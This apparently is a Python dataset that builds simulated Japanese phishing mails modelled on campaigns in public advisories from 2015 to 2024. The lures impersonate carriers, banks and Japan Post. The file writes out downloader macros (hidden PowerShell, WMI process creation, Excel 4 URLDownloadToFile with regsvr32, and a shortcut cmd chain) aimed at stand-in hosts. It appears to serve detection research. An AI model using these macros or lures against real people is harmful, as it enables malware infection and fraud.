"""Mass mail in Japanese (ばらまき型), 2015 to 2024."""
from recipe import Recipe, auth
from making import program, zipped
from kit import Rar5, icons, lnk, office, onenote, programs

# Macros as the downloaders of those years had them; their hosts cannot exist.
SHELL_VBA = """Sub AutoOpen()
    Dim s As String
    s = "power" & "shell -w hidden -nop -c " & Chr(34)
    s = s & "(New-Object Net.WebClient).DownloadFile('http://cdn.example.invalid/u/a.png','%TEMP%\\a.exe')" & Chr(34)
    CreateObject("WScript.Shell").Run "cmd /c " & s, 0
End Sub
"""
CELLS_VBA = """Private Sub Workbook_Open()
    Dim i, t
    For i = 1 To 12: t = t & Chr(Cells(i, 7).Value - 3): Next
    If Application.International(xlCountrySetting) = 81 Then Shell t & Sheets(1).TextBox1.Text, vbHide
End Sub
"""
EMOTET_VBA = """Private Sub Document_open()
Kq7x = StrReverse("llehsrewop") & " -e " & UserForm1.Tag
Set o = GetObject("winm" & "gmts:Win32_" & "Process")
o.Create Kq7x, Null, Null, pid
End Sub
"""
EXCEL4 = ['=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://www.example.invalid/wp-content/x7/","C:\\Users\\Public\\kbdq.ocx",0,0)',
          '=EXEC("C:\\Windows\\SysWow64\\regsvr32.exe -s C:\\Users\\Public\\kbdq.ocx")', "=HALT()"]

QUOTED = """例示研究所 総務課 小林様

お世話になっております。例示設備の原です。
空調の定期点検は10月8日で承りました。当日は2名で伺います。

原
"""

RECIPES = [
    Recipe("m-parcel-ja", "mass", "J-CRAT, activity report of the first half of fiscal 2016, 2 (1); Yamato Transport, notice of June 2016",
           "A carrier's notice copied word for word; From shows the carrier's domain; the program lies in a plain zip.", "宅急便お届け予定のご案内",
           "mail@kuronekoyamato.co.jp", name="ヤマト運輸株式会社", hard=True, twin="b-world-parcel", to="kobayashi@example.ac.jp",
           date="Wed, 29 Jun 2016 10:17:52 +0900", charset="iso-2022-jp",
           body="いつもヤマト運輸をご利用いただきありがとうございます。\n\n下記の宅急便を、6月30日にお届けする予定です。\n\n"
                "■お届け予定日時\n  06月30日 時間帯希望なし\n■品名\n  書類\n■商品名\n  別紙\n■ご依頼主\n  オンラインショップ 様\n■伝票番号\n  3906-1187-5520\n\n"
                "お届け先やお受け取り日時の変更は、添付のファイルをご確認ください。\n\n※このメールに返信いただいても、お答えできません。\n"
                "────────────────\nヤマト運輸株式会社\n",
           client=("host-203-0-113-211.dynamic.broadband.example", "203.0.113.211"),
           message_id="<20160629011752.6D2A@kuronekoyamato.co.jp>",
           headers=[("Return-Path", "<mail@kuronekoyamato.co.jp>"), auth("fail", "none", "none", "kuronekoyamato.co.jp"),
                    ("X-Mailer", "Microsoft Outlook Express 6.00.2900.5512")],
           attach=[("390611875520.zip", zipped(("宅急便お届け予定.exe", program(icons.document(), 140000, packed=True, stamp=0x57730000))),
                    "application/zip")]),

    Recipe("m-bank-transfer", "mass",
           "J-CRAT, activity report of the first half of fiscal 2016, 2 (1); mails in the name of banks, June 2016",
           "A bank's notice of a transfer with numbers; the program lies in a locked zip whose password the mail gives.",
           "【三井住友銀行】振込受付完了のお知らせ", "smbc_service@dn.smbc.co.jp", name="三井住友銀行", twin="b-world-bank", hard=True,
           date="Mon, 27 Jun 2016 09:55:14 +0900", charset="iso-2022-jp",
           body="三井住友銀行より、振込受付完了のお知らせです。\n\n受付内容は添付のファイルにてご確認ください。\n{password}\n\n"
                "取引種類: 振込(都度指定方式)\n受付番号: 0627903315\n受付日時: 2016年06月27日 09時51分\n\n"
                "このメールは、お取引のつど自動でお送りしています。お心当たりのない場合は、至急お取引店へご連絡ください。\n",
           password_line="ファイルを開くためのパスワードは 0627 です。", client=("203-0-113-48.rev.vps.example", "203.0.113.48"),
           message_id="<8f6a11d97bc24e0d@dn.smbc.co.jp>",
           headers=[("Return-Path", "<smbc_service@dn.smbc.co.jp>"), auth("softfail", domain="dn.smbc.co.jp")],
           attach=[("振込受付0627.zip", zipped(("振込受付明細_0627903315.pdf.exe", program(icons.document(accent=(200, 30, 30)), 120000, packed=True)),
                                           password="0627"), "application/zip")]),

    Recipe("m-jp-post", "mass", "Japan Post, warnings on mails in its name, December 2015 to March 2016 (Rovnix)",
           "A letter of a post office in a machine's Japanese from a Russian free-mail box; the program is in a zip.",
           "番号410077823の下での小包の配達につきまして", "olga.belova77@rambler.ru", name="日本郵政", charset="utf-8", date="Tue, 01 Mar 2016 03:11:20 +0300",
           body="拝啓、\n\n配達員が注文番号410077823の品物を配るため、あなたに電話にて連絡しましたが、つながりませんでした。\n"
                "従ってご注文の品物は端末に返されました。ご注文を登録された際に書かれた電話番号に間違いがあったことが分かりました。\n"
                "この電子メールに附属されている送り状を印刷して、一番近くの郵政取扱局までお出でください。\n\n敬具、\n日本郵政、配達担当 高橋。\n",
           client=("mail.rambler.example", "198.51.100.98"), message_id="<1456791080.51822.30117@mailfront14.rambler.example>",
           headers=[auth("pass", "pass", "none", "rambler.ru"), ("X-Mailer", "Ramail 3u, (chameleon), http://mail.rambler.example")],
           attach=[("委託運送状_410077823.zip", zipped(("委託運送状_410077823.scr", program(icons.document(), 200000, stamp=0x56D4B000))),
                    "application/octet-stream")]),

    Recipe("m-copier", "mass", "Symantec and Kiyo Bank, notices of October 2015: mails in the name of copiers carry Dridex and Shifu",
           "A copier's mail to the user from his own address; the scan is a Word file with macros.", "Message from \"RNP0026737A9F11\"",
           "soumu@example.ac.jp", twin="b-office-scan", hard=True, date="Thu, 08 Oct 2015 15:22:47 +0900", charset="iso-2022-jp",
           body="このメールは \"RNP0026737A9F11\" (MP C3503) から送信されました。\n\n読み取り日時: 2015.10.08 15:22:31\n",
           client=("static-203-0-113-95.telecom.example", "203.0.113.95"), message_id="<20151008152231.9F11@RNP0026737A9F11>",
           headers=[("Return-Path", "<soumu@example.ac.jp>"), auth("fail", domain="example.ac.jp")],
           attach=[("20151008152231447.doc", office.doc(SHELL_VBA, text="コンテンツの有効化をクリックしてください"), "application/msword")]),

    Recipe("m-invoice-xls", "mass", "JC3, virus mails of June to October 2017 (Ursnif): invoices as .xls",
           "Three lines, a surname and an .xls with macros from a botnet host with an address of a free-mail service.", "10月分の請求書",
           "hayami_0731@yahoo.co.jp", name="速水", twin="b-office-budget", charset="iso-2022-jp", date="Tue, 03 Oct 2017 08:41:12 +0900",
           body="お世話になります。\n\n10月分の請求書をお送り致します。\n期日までにお支払い下さいますよう宜しくお願いします。\n\n速水\n",
           client=("abts-203-0-113-87.dyn.isp.example", "203.0.113.87"), message_id="<A1C0D5E2.3F8B4410@yahoo.co.jp>",
           headers=[auth("softfail", "none", "fail", "yahoo.co.jp"), ("X-Mailer", "Microsoft Outlook 15.0")],
           attach=[("御請求書(2).xls", office.xls(CELLS_VBA, text="このファイルは保護されています\n編集を有効にする\nコンテンツの有効化"),
                    "application/vnd.ms-excel")]),

    Recipe("m-order-xls", "mass", "Trend Micro, October 2018: mails to Japan with .xls that fetches Bebloh from pictures (Cutwail)",
           "A short mail on an order with Re: before a subject that never was; the .xls is named by a long number.",
           "Re: - 3 Re: 11月分発注書の送付", "tomita@denki-shoji.example", charset="iso-2022-jp", date="Wed, 24 Oct 2018 17:03:29 +0900",
           body="御担当者様\n\nいつもお世話になっております。\n11月分の発注書をXLS版にて送付致しますので、\nご査収の程、宜しくお願いいたします。\n\n営業総括部 富田\n",
           client=("host72.dsl.telekom.example", "203.0.113.72"), message_id="<5BD02691.8090607@denki-shoji.example>",
           headers=[auth("none", domain="denki-shoji.example"), ("User-Agent", "Mozilla/5.0 (Windows NT 6.1; rv:60.0) Gecko/20100101 Thunderbird/60.2.1")],
           attach=[("Doc24102018170329118.xls", office.xls(CELLS_VBA, text="発注書\nコンテンツの有効化"), "application/vnd.ms-excel")]),

    Recipe("m-iqy", "mass", "Trend Micro, August 2018: Cutwail spreads .iqy files in mails of a line to Japan",
           "A line of text and an .iqy file, which makes Excel fetch its content.", "写真をお送りします", "kurokawa-y@dokodemo.example", name="黒川",
           charset="iso-2022-jp", date="Wed, 08 Aug 2018 11:47:33 +0900",
           body="お世話になります。\n\n写真を添付しますのでご確認ください。\n宜しくお願いします。\n", client=("pool-203-0-113-14.cable.example", "203.0.113.14"),
           message_id="<20180808114733.11B4@dokodemo.example>", headers=[auth("softfail", domain="dokodemo.example")],
           attach=[("7_8_2018.iqy", b"WEB\r\n1\r\nhttp://table.example.invalid/dot.php\r\n2\r\n3\r\n", "application/octet-stream")]),

    Recipe("m-photo-js", "mass", "ESET, January 2019: the \"Love you\" campaign turns to Japan with names of singers as subjects",
           "A smiley and a script in a zip that is named as a picture of a camera.", "Sheena Ringo ;)", "Jenna7731@4471.example",
           charset="us-ascii", date="Tue, 29 Jan 2019 02:20:08 +0000",
           body=":)\n", client=("unknown.example", "203.0.113.230"), message_id="<18207731.4471@4471.example>",
           headers=[auth("none", domain="4471.example")],
           attach=[("PIC0-9071182019-jpg.zip", zipped(("PIC0-9071182019-jpg.js", programs.FETCH_JS.encode())), "application/zip")]),

    Recipe("m-emotet-zip", "mass", "IPA, Emotet: locked zips with the password in the body since September 2020",
           "Emotet answers a stolen mail; the locked zip holds a Word file with macros, the body has its password.", "Re: 空調設備定期点検の件",
           "administracion@hotel-costa.example", name="原(例示設備)", twin="b-office-ppap-same", hard=True, charset="utf-8",
           date="Wed, 02 Sep 2020 18:05:36 -0500",
           body="例示研究所 総務課 小林様\n\nお世話になっております。\n添付ファイルをご確認いただき、ご返信くださいますようお願いいたします。\n\n{password}\n\n原\n\n"
                "-----Original Message-----\n" + QUOTED,
           password_line="添付ファイル名: 点検報告_0902.zip\n解凍パスワード: vUm3QdYx", client=("hwsrv-40.hosting.example", "203.0.113.40"),
           message_id="<2c9b8e77f0d14a6e8a1f@hotel-costa.example>", headers=[auth("pass", "pass", "none", "hotel-costa.example")],
           attach=[("点検報告_0902.zip", zipped(("点検報告_0902.doc", office.doc(EMOTET_VBA, text="This document is protected. Enable content.")),
                                           password="vUm3QdYx"), "application/zip")]),

    Recipe("m-emotet-bonus", "mass", "JPCERT/CC, November and December 2019: Emotet in Japan; mails on the winter bonus",
           "A mail on the bonus from a hijacked box of a foreign firm; the Word file asks for its macros.", "冬季賞与の支払について",
           "ventas@ferreteria.example", name="小林 soumu@example.ac.jp", charset="utf-8", date="Thu, 12 Dec 2019 11:32:40 +0900",
           body="いつもお世話になっております。\n\n掲題の件につきまして、賞与の支払通知を添付いたします。\n内容をご確認の上、ご査収ください。\n\n"
                "取り急ぎご連絡まで。\n\n小林\nsoumu@example.ac.jp\n",
           client=("cpanel11.webhost.example", "203.0.113.117"), message_id="<77180213.20191212053240@ferreteria.example>",
           headers=[auth("pass", "none", "none", "ferreteria.example")],
           attach=[("賞与支払通知 2019_12_12.docm", office.docm(EMOTET_VBA, text="Office 365 で作成された文書です。「編集を有効にする」の後「コンテンツの有効化」をクリックしてください。"),
                    "application/vnd.ms-word.document.macroEnabled.12")]),

    Recipe("m-emotet-lnk", "mass", "IPA, Emotet, April 2022: shortcuts, plain or in locked zips",
           "Emotet answers with a locked zip that holds a shortcut.", "RE: 会議室予約の変更", "info@klinik.example", name="会議室予約センター",
           twin="t-lnk-interview", charset="utf-8", date="Tue, 26 Apr 2022 06:48:19 +0000",
           body="ご確認お願いいたします。\n\n{password}\n\n----\n> 5月12日の会議室の予約を午後に変更してください。\n", password_line="Zip パスワード: 4291",
           client=("server9.klinik.example", "203.0.113.155"), message_id="<20220426064819.B7733C@klinik.example>",
           headers=[auth("pass", domain="klinik.example")],
           attach=[("予約変更 2022-04-26_1148.zip", zipped(("予約変更 2022-04-26_1148.doc.lnk", lnk(
               "/v:on /c findstr \"qhTrwzA.*\" \"%CD%\\予約変更 2022-04-26_1148.doc.lnk\" > \"%tmp%\\mWbKqUrTsa.vbs\" & \"%tmp%\\mWbKqUrTsa.vbs\"",
               "C:\\Windows\\system32\\cmd.exe", icon="C:\\Windows\\System32\\shell32.dll", icon_index=1, show=7,
               overlay=b"\r\nqhTrwzA = \"http://www.example.invalid/wp/a\"\r\n")), password="4291"), "application/zip")]),

    Recipe("m-emotet-xls", "mass", "IPA, Emotet, November 2022: .xls that asks to be copied into Templates",
           "A subject only, one line, and an .xls with a hidden macro sheet.", "請求書について", "contabilidad@muebles.example",
           name="kobayashi@example.ac.jp", charset="utf-8", date="Wed, 02 Nov 2022 13:59:02 +0900",
           body="請求書を添付いたします。よろしくお願いいたします。\n", client=("vps-203-0-113-170.host.example", "203.0.113.170"),
           message_id="<4A7C1B3E.20221102@muebles.example>",
           headers=[auth("pass", domain="muebles.example"), ("X-Mailer", "Microsoft Outlook 16.0")],
           attach=[("2022-11-02_1358.xls", office.xls_xlm(EXCEL4, text="RELAUNCH REQUIRED\nC:\\Program Files\\Microsoft Office\\root\\Templates"),
                    "application/vnd.ms-excel")]),

    Recipe("m-onenote", "mass", "JPCERT/CC and IPA, March 2023: Emotet in .one files",
           "An answer with one line; behind the button of the notebook lies a script.", "RE: 議事録の件", "sekretariat@handwerk.example",
           name="事務局", twin="b-office-minutes", charset="utf-8", date="Thu, 16 Mar 2023 19:08:51 +0900",
           body="お世話になっております。\n修正した議事録をお送りします。ご確認ください。\n\n> 先日の議事録を共有いただけますか。\n", client=("web4.provider.example", "203.0.113.134"),
           message_id="<c31b0d9f2a7e4b55@handwerk.example>", headers=[auth("pass", "pass", "none", "handwerk.example")],
           attach=[("議事録_16.03.2023.one", onenote([("click.wsf", b"<job><script language=\"VBScript\">\r\n" + programs.FETCH_VBS.encode() +
                                                     b"</script></job>")]), "application/octet-stream")]),

    Recipe("m-icedid", "mass", "JPCERT/CC, October and November 2020: IcedID in answers with a password in a line",
           "IcedID answers a stolen mail in a clumsy line; a zip is locked with six digits.", "Re: 備品購入の見積もり依頼",
           "marco@studio-legale.example", name="辻", charset="utf-8", date="Wed, 04 Nov 2020 00:50:30 +0900",
           body="こんにちは、\n\n添付の資料をご覧ください。\n{password}\n\nよろしくお願いします。\n\n> 備品の見積もりをお願いします。机4、椅子8です。\n", password_line="パスワード 918273",
           client=("smtp3.studio-legale.example", "203.0.113.19"), message_id="<000001d6b1f8$1a2b3c4d@studio-legale.example>",
           headers=[auth("pass", "pass", "none", "studio-legale.example")],
           attach=[("requests.zip", zipped(("figures-11.20.doc", office.doc(SHELL_VBA, text="Enable editing and content")), password="918273"), "application/zip")]),

    Recipe("m-travel", "mass", "Travel Vision, May 2017: mails in the name of Rurubu Travel; JC3 lists the subject",
           "A travel site's confirmation with stay and number; the zip holds a program with a picture of a document.",
           "ご予約完了のお知らせ[るるぶトラベル]", "rurubu@yoyaku.example", name="るるぶトラベル", hard=True, twin="t-eticket", charset="iso-2022-jp",
           date="Tue, 23 May 2017 07:36:18 +0900",
           body="このたびはご予約いただき、ありがとうございます。\nご予約の内容は次のとおりです。\n\n予約番号: 70511842\nチェックイン: 2017年6月2日(金) 1泊\n部屋数: 1室 2名\n"
                "合計: 18,360円(税込)\n\n詳しくは添付の予約票をご覧ください。キャンセル料は前日から30%を申し受けます。\n",
           client=("dsl-pool-203-0-113-29.net.example", "203.0.113.29"), message_id="<70511842.1495492578@yoyaku.example>",
           headers=[auth("softfail", domain="yoyaku.example"), ("X-Priority", "3")],
           attach=[("予約(70511842).zip", zipped(("予約(70511842).exe", program(icons.document(accent=(200, 30, 30)), 150000, packed=True, stamp=0x5922F000))), "application/zip")]),

    Recipe("m-personnel-order", "mass", "Tokyo University of Science, notice of January 2016: mails with an order on staff cuts",
           "A mail without a subject in the name of a personnel section; a program in a zip with a number in its name.", "",
           "saito1181@softbank.jp", charset="iso-2022-jp", date="Mon, 18 Jan 2016 09:20:45 +0900", to="kenkyu-a@example.ac.jp",
           body="各位\n\n人事課に提出する書類の件です。添付資料を参照してください。\n", client=("203-0-113-180.pool.example", "203.0.113.180"),
           message_id="<0119B5A2C7D8.1181@softbank.jp>", headers=[auth("fail", domain="softbank.jp")],
           attach=[("人員整理の命令書_118.zip", zipped(("人員整理の命令書.exe", program(icons.document(), 110000, packed=True))), "application/zip")]),

    Recipe("m-quote-rar", "mass",
           "Japanese mails with information stealers (Agent Tesla, FormBook), 2021 to 2024, as vendors and IPA report them",
           "A request for a quotation in smooth Japanese from a hijacked box of an Asian firm; a program in a rar.",
           "見積依頼:ステンレスバルブ 48個(至急)", "sales3@metalworks.example", name="株式会社例示精機 購買部 小池", hard=True, to="koubai@example.co.jp",
           charset="utf-8", date="Tue, 20 Feb 2024 10:40:11 +0800",
           body="ご担当者様\n\n平素より大変お世話になっております。\n株式会社例示精機 購買部の小池と申します。\n\n"
                "下記の件につきまして、添付の仕様書をご確認いただき、最短納期とお見積りをご提示くださいますようお願い申し上げます。\n"
                "明日の午前中までにご回答いただけますと幸いです。\n\n小池\n株式会社例示精機 購買部\n",
           client=("host.metalworks.example", "203.0.113.65"), message_id="<b0c9e1f4a2d34d7e9f@metalworks.example>",
           headers=[auth("pass", "pass", "none", "metalworks.example"), ("User-Agent", "Roundcube Webmail/1.4.15"), ("Reply-To", "koike.seiki@gmail.com")],
           attach=[("仕様書_20240220.rar", Rar5().add("仕様書_20240220.exe", program(icons.logo(), 60000, packed=True, stamp=0x65D3A000, FileDescription="Calculator",
                                                                                CompanyName="Soft")).bytes(), "application/x-rar-compressed")]),

    Recipe("m-tax-link", "mass", "National Tax Agency, warning of August 2022 on mails that demand unpaid tax",
           "A demand of unpaid tax with a link; nothing is attached.", "【税務署】未払い税金に関するお知らせ", "etax@tax-notice.example",
           name="国税電子申告・納税システム", alone=False, charset="utf-8", date="Mon, 12 Sep 2022 16:11:09 +0800",
           body="所得税および延滞金 (法律の規定により計算した客額) につきまして、自主的な納付を何度も御催促しましたが、今も納付が有りません。\n"
                "期限までに納付が無い場合、財産の差押処分に移行します。\n\n納稅確認番号: ****4410\n滯納金合計: 40000円\n\nお支払いへ⇒ https://tax-pay.example.invalid/jp\n",
           client=("mail0.tax-notice.example", "203.0.113.190"), message_id="<20220912161109412877@tax-notice.example>",
           headers=[auth("pass", "none", "none", "tax-notice.example"), ("X-Mailer", "Foxmail 6, 13, 102, 15 [cn]")]),
]
